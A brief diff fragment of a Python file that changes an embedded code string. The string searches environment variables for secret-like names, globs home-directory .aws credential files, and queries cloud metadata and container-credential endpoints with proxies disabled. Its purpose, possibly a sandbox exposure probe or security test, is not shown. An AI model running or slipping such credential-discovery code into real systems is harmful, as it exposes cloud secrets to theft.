@@ -8,9 +8,7 @@ LOOK = """
 import os, pathlib, urllib.request
 marks = ("ACCESS_KEY", "TOKEN", "SECRET", "CREDENTIAL", "ROLE")
 found = [name for name in os.environ if any(mark in name for mark in marks)]
-home = pathlib.Path.home()
-found += [str(path) for path in (home / ".aws", pathlib.Path("/root/.aws/credentials"))
-          if path.exists() and str(path).startswith(str(home))]
+found += [str(path) for path in pathlib.Path.home().glob(".aws*")]
 opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
 for address in ("169.254.169.254/latest/meta-data", "169.254.170.2/v2/credentials"):
     try:
